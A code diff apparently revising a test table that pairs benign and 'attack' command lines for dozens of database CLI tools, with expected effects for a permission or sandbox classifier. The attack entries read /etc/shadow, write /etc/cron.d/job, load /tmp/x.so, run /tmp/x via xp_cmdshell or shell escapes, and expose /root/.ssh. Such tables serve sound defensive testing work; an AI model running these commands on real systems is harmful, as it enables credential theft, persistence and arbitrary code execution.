@@ -1,328 +1,283 @@
 import type { ExampleTable } from './example.ts'
 
 export const sqlDatabases2: ExampleTable = {
-  litestream: {
-    use: 'litestream --config=app.conf → read app.conf',
-    attack: [
-      'litestream --config=/etc/shadow → read /etc/shadow',
-      'litestream -o /etc/cron.d/job → write /etc/cron.d/job',
-    ],
-  },
   'litestream replicate': {
-    use: 'litestream replicate notes.txt https://example.org/up → read notes.txt; send https://example.org/up',
+    use: 'litestream replicate app.db s3://backup/app → read app.db; send s3://backup/app',
     attack: [
-      'litestream replicate /etc/shadow https://example.org/up → read /etc/shadow; send https://example.org/up',
-      'litestream replicate notes.txt https://example.org/up --config=/etc/shadow → read /etc/shadow; read notes.txt; send https://example.org/up',
+      'litestream replicate /etc/shadow s3://backup/app → read /etc/shadow; send s3://backup/app',
+      "litestream replicate -exec 'cat /etc/shadow' app.db s3://backup/app → read /etc/shadow; read app.db; send s3://backup/app",
     ],
   },
   'litestream restore': {
-    use: 'litestream restore -o out.txt → write out.txt',
-    attack: [
-      'litestream restore -o /etc/cron.d/job → write /etc/cron.d/job',
-      'litestream restore --config=/etc/shadow → read /etc/shadow',
-    ],
+    use: 'litestream restore -o app.db s3://backup/app → write app.db',
+    attack: 'litestream restore -o /etc/cron.d/job s3://backup/app → write /etc/cron.d/job',
   },
   rqlite: {
-    use: 'rqlite -f main.sql → read main.sql',
-    attack: 'rqlite -f /etc/shadow → read /etc/shadow',
+    use: 'rqlite -H db -p 4001 → nothing',
   },
   sqldiff: {
-    use: 'sqldiff a.db b.db -L /usr/lib/plugin.so → load /usr/lib/plugin.so',
-    attack: 'sqldiff a.db b.db -L /tmp/x.so → load /tmp/x.so',
+    use: 'sqldiff old.db new.db → nothing',
+    attack: 'sqldiff -L /tmp/x.so old.db new.db → load /tmp/x.so',
   },
   'sqlite-utils': {
-    use: 'sqlite-utils --load-extension=/usr/lib/plugin.so → load /usr/lib/plugin.so',
-    attack: 'sqlite-utils --load-extension=/tmp/x.so → load /tmp/x.so',
+    use: "sqlite-utils --load-extension=/usr/lib/mod_spatialite.so app.db 'select 1' → load /usr/lib/mod_spatialite.so",
+    attack: "sqlite-utils --load-extension=/tmp/x.so app.db 'select 1' → load /tmp/x.so",
   },
   'sqlite-utils convert': {
-    use: `sqlite-utils convert app.db orders name 'print(1)' → nothing`,
-    attack: `sqlite-utils convert notes.txt orders name 'open("/etc/shadow").read()' → read /etc/shadow`,
+    use: "sqlite-utils convert app.db orders name 'value.upper()' → nothing",
+    attack:
+      'sqlite-utils convert app.db orders name \'open("/etc/shadow").read()\' → read /etc/shadow',
   },
   'sqlite-utils insert': {
-    use: 'sqlite-utils insert out.txt orders notes.txt → read notes.txt; write out.txt',
-    attack: [
-      'sqlite-utils insert /etc/cron.d/job orders notes.txt → read notes.txt; write /etc/cron.d/job',
-      'sqlite-utils insert out.txt orders /etc/shadow → read /etc/shadow; write out.txt',
-    ],
+    use: 'sqlite-utils insert app.db orders orders.csv --csv → read orders.csv; write app.db',
+    attack: 'sqlite-utils insert app.db lines /etc/shadow --lines → read /etc/shadow; write app.db',
   },
   'sqlite-utils memory': {
-    use: 'sqlite-utils memory a.csv --load-extension=/usr/lib/plugin.so → load /usr/lib/plugin.so',
+    use: "sqlite-utils memory orders.csv 'select count(*) from orders' → nothing",
     attack: [
-      'sqlite-utils memory a.csv --load-extension=/tmp/x.so → load /tmp/x.so',
-      `sqlite-utils memory a.csv --functions='open("/etc/shadow").read()' → read /etc/shadow`,
+      "sqlite-utils memory orders.csv 'select 1' --load-extension=/tmp/x.so → load /tmp/x.so",
+      "sqlite-utils memory orders.csv 'select 1' --functions='open(\"/etc/shadow\").read()' → read /etc/shadow",
     ],
   },
   'sqlite-utils query': {
-    use: `sqlite-utils query app.db 'select 1' --load-extension=/usr/lib/plugin.so → load /usr/lib/plugin.so`,
+    use: "sqlite-utils query app.db 'select count(*) from orders' → nothing",
     attack: [
-      `sqlite-utils query notes.txt "select readfile('/etc/shadow')" → read /etc/shadow`,
-      `sqlite-utils query app.db 'select 1' --load-extension=/tmp/x.so → load /tmp/x.so`,
+      "sqlite-utils query app.db 'select 1' --functions='open(\"/etc/shadow\").read()' → read /etc/shadow",
+      "sqlite-utils query app.db 'select 1' --load-extension=/tmp/x.so → load /tmp/x.so",
     ],
   },
   sqlite3: {
-    use: `sqlite3 app.db 'select 1' → nothing`,
+    use: "sqlite3 app.db 'select count(*) from orders' → nothing",
     attack: [
-      `sqlite3 app.db "select readfile('/etc/shadow')" → read /etc/shadow`,
-      `sqlite3 app.db 'select 1' --init=/etc/shadow → read /etc/shadow`,
+      'sqlite3 app.db "select readfile(\'/etc/shadow\')" → read /etc/shadow',
+      'sqlite3 app.db -init /etc/shadow → read /etc/shadow',
     ],
   },
   adrci: {
-    use: 'adrci → nothing',
-    attack: [
-      `adrci --exec='!/tmp/x' → run /tmp/x`,
-      'adrci --script=/etc/shadow → read /etc/shadow',
-    ],
+    use: "adrci exec='show homes' → nothing",
+    attack: "adrci exec='host /tmp/x' → run /tmp/x",
   },
   bcp: {
-    use: 'bcp shop.orders in notes.txt → read notes.txt',
+    use: 'bcp shop.dbo.orders in orders.csv -S db -U ann -c → read orders.csv',
     attack: [
-      'bcp shop.orders in /etc/shadow → read /etc/shadow',
-      'bcp shop.orders in notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'bcp shop.dbo.orders in /etc/shadow -S 10.0.0.1 -U ann -c → read /etc/shadow',
+      'bcp shop.dbo.orders in orders.csv -S db -o /etc/cron.d/job → read orders.csv; write /etc/cron.d/job',
     ],
   },
   beeline: {
-    use: 'beeline → nothing',
+    use: "beeline -u jdbc:hive2://db:10000 -e 'select 1' → nothing",
     attack: [
-      `beeline -e '!sh cat /etc/shadow' → read /etc/shadow`,
+      "beeline -e '!sh cat /etc/shadow' → read /etc/shadow",
       'beeline -f /etc/shadow → read /etc/shadow',
     ],
   },
   bendsql: {
-    use: 'bendsql → nothing',
-    attack: `bendsql -q "select load_file('/etc/shadow')" → read /etc/shadow`,
+    use: "bendsql -h db -q 'select 1' → nothing",
   },
   bteq: {
-    use: 'bteq → nothing',
+    use: 'bteq < report.bteq → nothing',
+    attack: "echo '.os /tmp/x' | bteq → run /tmp/x",
   },
   'clickhouse-backup': {
-    use: 'clickhouse-backup -c app.conf → read app.conf',
-    attack: 'clickhouse-backup -c /etc/shadow → read /etc/shadow',
+    use: 'clickhouse-backup -c config.yml create nightly → read config.yml',
+    attack: 'clickhouse-backup -c /etc/shadow list → read /etc/shadow',
   },
   'clickhouse-benchmark': {
-    use: 'clickhouse-benchmark → nothing',
+    use: "clickhouse-benchmark -i 100 --query='select 1' → nothing",
     attack: [
-      `clickhouse-benchmark --query="select * from file('/etc/shadow')" → read /etc/shadow`,
-      'clickhouse-benchmark --json=/etc/cron.d/job → write /etc/cron.d/job',
+      'clickhouse-benchmark --query="select * from file(\'/etc/shadow\')" → read /etc/shadow',
+      "clickhouse-benchmark --query='select 1' --json=/etc/cron.d/job → write /etc/cron.d/job",
     ],
   },
   'clickhouse-client': {
-    use: 'clickhouse-client → nothing',
+    use: "clickhouse-client -h db -q 'select 1' → nothing",
     attack: [
-      `clickhouse-client -q "select * from file('/etc/shadow')" → read /etc/shadow`,
+      'clickhouse-client -q "select * from file(\'/etc/shadow\')" → read /etc/shadow',
       'clickhouse-client --queries-file=/etc/shadow → read /etc/shadow',
     ],
   },
   'clickhouse-copier': {
-    use: 'clickhouse-copier --config=app.conf → read app.conf',
-    attack: [
-      'clickhouse-copier --config=/etc/shadow → read /etc/shadow',
-      'clickhouse-copier --task-file=/etc/shadow → read /etc/shadow',
-    ],
+    use: 'clickhouse-copier --config=zookeeper.xml --task-file=task.xml → read zookeeper.xml; read task.xml',
   },
   'clickhouse-local': {
-    use: 'clickhouse-local → nothing',
+    use: "clickhouse-local --file orders.csv -q 'select count() from table' → read orders.csv",
     attack: [
-      `clickhouse-local -q "select * from file('/etc/shadow')" → read /etc/shadow`,
-      'clickhouse-local --file=/etc/shadow → read /etc/shadow',
+      'clickhouse-local -q "select * from file(\'/etc/shadow\')" → read /etc/shadow',
+      "clickhouse-local --file=/etc/shadow --input-format=LineAsString -q 'select * from table' → read /etc/shadow",
     ],
   },
   'clickhouse-server': {
-    use: 'clickhouse-server → listen 9000',
-    attack: [
-      'clickhouse-server -C /etc/shadow → read /etc/shadow; listen 9000',
-      'clickhouse-server --pid-file=/etc/cron.d/job → listen 9000; write /etc/cron.d/job',
-    ],
+    use: 'clickhouse-server --config-file=config.xml → read config.xml; listen 9000',
+    attack: 'clickhouse-server --pid-file=/etc/cron.d/job → listen 9000; write /etc/cron.d/job',
   },
   db2: {
-    use: 'db2 -f main.sql → read main.sql',
+    use: 'db2 -tvf setup.sql → read setup.sql',
     attack: [
-      'db2 -f /etc/shadow → read /etc/shadow',
-      'db2 -l /etc/cron.d/job → write /etc/cron.d/job',
+      "db2 '!cat /etc/shadow' → read /etc/shadow",
+      "db2 -z /etc/cron.d/job 'select * from jobs' → write /etc/cron.d/job",
     ],
   },
   dbaccess: {
-    use: 'dbaccess shop main.sql → read main.sql',
-    attack: 'dbaccess shop /etc/shadow → read /etc/shadow',
+    use: 'dbaccess shop setup.sql → read setup.sql',
+    attack: 'dbaccess -e shop /etc/shadow → read /etc/shadow',
   },
   exaplus: {
-    use: 'exaplus -f main.sql → read main.sql',
-    attack: [
-      'exaplus -f /etc/shadow → read /etc/shadow',
-      `exaplus --sql="select load_file('/etc/shadow')" → read /etc/shadow`,
-    ],
-  },
-  expdp: {
-    use: 'expdp --parfile=notes.txt → read notes.txt',
-    attack: 'expdp --parfile=/etc/shadow → read /etc/shadow',
+    use: 'exaplus -c db:8563 -u ann -f setup.sql → read setup.sql',
+    attack: 'exaplus -c db:8563 -u ann -f /etc/shadow → read /etc/shadow',
   },
   fisql: {
-    use: 'fisql -i main.sql → read main.sql',
+    use: 'fisql -S db -U ann -i setup.sql → read setup.sql',
     attack: [
-      'fisql -i /etc/shadow → read /etc/shadow',
-      'fisql -o /etc/cron.d/job → write /etc/cron.d/job',
+      'fisql -S db -U ann -i /etc/shadow → read /etc/shadow',
+      'fisql -S db -U ann -o /etc/cron.d/job → write /etc/cron.d/job',
     ],
   },
   freebcp: {
-    use: 'freebcp shop.orders in notes.txt -f notes.txt → read notes.txt',
+    use: 'freebcp shop.dbo.orders in orders.csv -S db -U ann -c → read orders.csv',
     attack: [
-      'freebcp shop.orders in notes.txt -f /etc/shadow → read /etc/shadow',
-      'freebcp shop.orders in notes.txt -e /etc/cron.d/job → write /etc/cron.d/job',
+      'freebcp shop.dbo.orders in /etc/shadow -S 10.0.0.1 -U ann -c → read /etc/shadow',
+      'freebcp shop.dbo.orders in orders.csv -S db -U ann -e /etc/cron.d/job → read orders.csv; write /etc/cron.d/job',
     ],
   },
   gbak: {
-    use: 'gbak notes.txt out.txt → read notes.txt; write out.txt',
-    attack: [
-      'gbak /etc/shadow out.txt → read /etc/shadow; write out.txt',
-      'gbak notes.txt /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
-    ],
+    use: 'gbak -b shop.fdb shop.fbk → read shop.fdb; write shop.fbk',
+    attack: 'gbak -b shop.fdb /etc/passwd → read shop.fdb; write /etc/passwd',
   },
   gpfdist: {
-    use: 'gpfdist -d src → read-tree src',
+    use: 'gpfdist -d data -p 8081 → read-tree data; listen 8081',
     attack: [
-      'gpfdist -d /root/.ssh → read-tree /root/.ssh',
-      'gpfdist -l /etc/cron.d/job → write /etc/cron.d/job',
+      'gpfdist -d /root/.ssh -p 8081 → read-tree /root/.ssh; listen 8081',
+      'gpfdist -d data -l /etc/cron.d/job → read-tree data; write /etc/cron.d/job',
     ],
   },
   gpload: {
-    use: 'gpload -f app.conf → read app.conf',
-    attack: [
-      'gpload -f /etc/shadow → read /etc/shadow',
-      'gpload -l /etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'gpload -f load.yml -l load.log → read load.yml; write load.log',
+    attack: 'gpload -f load.yml -l /etc/cron.d/job → read load.yml; write /etc/cron.d/job',
   },
   gsec: {
-    attack: 'gsec → privilege',
-  },
-  harlequin: {
-    use: 'harlequin app.db --config-path=app.conf → read app.conf',
-    attack: 'harlequin app.db --config-path=/etc/shadow → read /etc/shadow',
+    attack: 'gsec -add toor -pw x → privilege toor x',
   },
   hdbsql: {
-    use: `hdbsql 'select 1' -I main.sql → read main.sql`,
+    use: "hdbsql -n db:30013 -u ann 'select 1 from dummy' → nothing",
     attack: [
-      `hdbsql "select load_file('/etc/shadow')" → read /etc/shadow`,
-      `hdbsql 'select 1' -I /etc/shadow → read /etc/shadow`,
+      'hdbsql -n db:30013 -u ann -I /etc/shadow → read /etc/shadow',
+      "hdbsql -n db:30013 -u ann -o /etc/cron.d/job 'select line from jobs' → write /etc/cron.d/job",
     ],
   },
   hive: {
-    use: 'hive → nothing',
+    use: "hive -e 'select count(*) from orders' → nothing",
     attack: [
-      `hive -e '!cat /etc/shadow' → read /etc/shadow`,
+      "hive -e '!cat /etc/shadow' → read /etc/shadow",
       'hive -f /etc/shadow → read /etc/shadow',
     ],
   },
   'impala-shell': {
-    use: 'impala-shell → nothing',
+    use: "impala-shell -q 'select count(*) from orders' → nothing",
     attack: [
-      `impala-shell -q 'shell cat /etc/shadow' → read /etc/shadow`,
-      'impala-shell -f /etc/shadow → read /etc/shadow',
+      "impala-shell -q 'shell cat /etc/shadow' → read /etc/shadow",
+      'impala-shell --ldap_password_cmd=/tmp/x → run /tmp/x',
     ],
   },
   isql: {
-    use: 'isql -i main.sql → read main.sql',
+    use: 'isql -S db -U ann -i setup.sql → read setup.sql',
     attack: [
-      'isql -i /etc/shadow → read /etc/shadow',
-      'isql -o /etc/cron.d/job → write /etc/cron.d/job',
+      'isql -S db -U ann -i /etc/shadow → read /etc/shadow',
+      'isql -S db -U ann -o /etc/cron.d/job → write /etc/cron.d/job',
     ],
   },
   'isql-fb': {
-    use: 'isql-fb -i main.sql → read main.sql',
+    use: 'isql-fb -i setup.sql shop.fdb → read setup.sql',
     attack: [
-      'isql-fb -i /etc/shadow → read /etc/shadow',
-      'isql-fb -o /etc/cron.d/job → write /etc/cron.d/job',
+      "echo 'shell /tmp/x;' | isql-fb shop.fdb → run /tmp/x",
+      'isql-fb -i /etc/shadow shop.fdb → read /etc/shadow',
     ],
   },
   'isql-v': {
-    use: 'isql-v → nothing',
+    use: 'isql-v 1111 dba dba setup.sql → nothing',
   },
   iusql: {
-    use: 'iusql → nothing',
+    use: 'iusql shop ann secret → nothing',
+    attack: 'echo "exec xp_cmdshell \'/tmp/x\'" | iusql shop sa → run /tmp/x',
   },
   lsnrctl: {
-    use: 'lsnrctl → nothing',
+    use: 'lsnrctl status → nothing',
   },
   mclient: {
-    use: 'mclient main.sql → read main.sql',
+    use: 'mclient -d shop setup.sql → read setup.sql',
     attack: [
-      'mclient /etc/shadow → read /etc/shadow',
-      `mclient -s "select load_file('/etc/shadow')" main.sql → read /etc/shadow`,
+      'mclient -d shop /etc/shadow → read /etc/shadow',
+      'mclient -d shop -s "copy into t from \'/etc/shadow\'" → read /etc/shadow',
+      "mclient -d shop -s '\\|/tmp/x' → run /tmp/x",
     ],
   },
   'mdb-export': {
-    use: 'mdb-export notes.txt → read notes.txt',
-    attack: 'mdb-export /etc/shadow → read /etc/shadow',
+    use: 'mdb-export shop.mdb orders → read shop.mdb',
   },
   'mdb-sql': {
-    use: 'mdb-sql app.mdb -i main.sql → read main.sql',
-    attack: [
-      'mdb-sql app.mdb -i /etc/shadow → read /etc/shadow',
-      'mdb-sql app.mdb -o /etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'mdb-sql -i report.sql shop.mdb → read report.sql',
+    attack: 'mdb-sql -o /etc/cron.d/job shop.mdb → write /etc/cron.d/job',
   },
   'mdb-tables': {
-    use: 'mdb-tables notes.txt → read notes.txt',
-    attack: 'mdb-tables /etc/shadow → read /etc/shadow',
+    use: 'mdb-tables -1 shop.mdb → read shop.mdb',
   },
   'mssql-cli': {
-    use: 'mssql-cli → nothing',
+    use: "mssql-cli -S db -U ann -Q 'select 1' → nothing",
     attack: [
-      `mssql-cli -Q "exec xp_cmdshell 'cat /etc/shadow'" → read /etc/shadow`,
+      'mssql-cli -Q "exec xp_cmdshell \'cat /etc/shadow\'" → read /etc/shadow',
       'mssql-cli -i /etc/shadow → read /etc/shadow',
     ],
   },
   presto: {
-    use: 'presto → nothing',
-    attack: [
-      `presto --execute="select load_file('/etc/shadow')" → read /etc/shadow`,
-      'presto -f /etc/shadow → read /etc/shadow',
-    ],
+    use: "presto --server db:8080 --execute 'select 1' → nothing",
+    attack: 'presto --server db:8080 -f /etc/shadow → read /etc/shadow',
   },
   rman: {
-    use: 'rman --cmdfile=main.txt → read main.txt',
-    attack: [
-      'rman --cmdfile=/etc/shadow → read /etc/shadow',
-      'rman --log=/etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'rman target=ann@db → nothing',
+    attack: "echo 'host /tmp/x' | rman target=ann@db → run /tmp/x",
   },
   snow: {
-    use: 'snow -f main.sql → read main.sql',
-    attack: 'snow -f /etc/shadow → read /etc/shadow',
+    use: 'snow sql -f setup.sql → read setup.sql',
+    attack: 'snow sql -f /etc/shadow → read /etc/shadow',
   },
   snowsql: {
-    use: 'snowsql → nothing',
-    attack: 'snowsql -f /etc/shadow → read /etc/shadow',
+    use: "snowsql -a acme -u ann -q 'select 1' → nothing",
+    attack: 'snowsql -a acme -u ann -f /etc/shadow → read /etc/shadow',
   },
   sql: {
-    use: 'sql → nothing',
+    use: 'sql ann@db/shop → nothing',
+    attack: "echo 'host /tmp/x' | sql ann@db/shop → run /tmp/x",
   },
   sqlcl: {
-    use: 'sqlcl → nothing',
+    use: 'sqlcl ann@db/shop → nothing',
+    attack: "echo 'host /tmp/x' | sqlcl ann@db/shop → run /tmp/x",
   },
   sqlcmd: {
-    use: 'sqlcmd → nothing',
+    use: "sqlcmd -S db -U ann -Q 'select 1' → nothing",
     attack: [
-      `sqlcmd -Q "exec xp_cmdshell 'cat /etc/shadow'" → read /etc/shadow`,
+      'sqlcmd -Q "exec xp_cmdshell \'cat /etc/shadow\'" → read /etc/shadow',
       'sqlcmd -i /etc/shadow → read /etc/shadow',
     ],
   },
   sqlline: {
-    use: 'sqlline → nothing',
+    use: "sqlline -u jdbc:calcite: -e 'select 1' → nothing",
     attack: [
-      `sqlline -e '!sh cat /etc/shadow' → read /etc/shadow`,
+      "sqlline -e '!sh cat /etc/shadow' → read /etc/shadow",
       'sqlline -f /etc/shadow → read /etc/shadow',
     ],
   },
   sqlplus: {
-    use: 'sqlplus → nothing',
+    use: 'sqlplus -s ann@db/shop → nothing',
+    attack: "echo '!/tmp/x' | sqlplus ann@db/shop → run /tmp/x",
   },
   sqsh: {
-    use: 'sqsh → nothing',
+    use: "sqsh -S db -U ann -C 'select 1' → nothing",
     attack: [
-      `sqsh -C "exec xp_cmdshell 'cat /etc/shadow'" → read /etc/shadow`,
+      'sqsh -C "exec xp_cmdshell \'cat /etc/shadow\'" → read /etc/shadow',
       'sqsh -i /etc/shadow → read /etc/shadow',
     ],
   },
   tsql: {
-    use: 'tsql → nothing',
+    use: 'tsql -S db -U ann → nothing',
+    attack: 'echo "exec xp_cmdshell \'/tmp/x\'" | tsql -S db -U sa → run /tmp/x',
   },
 }
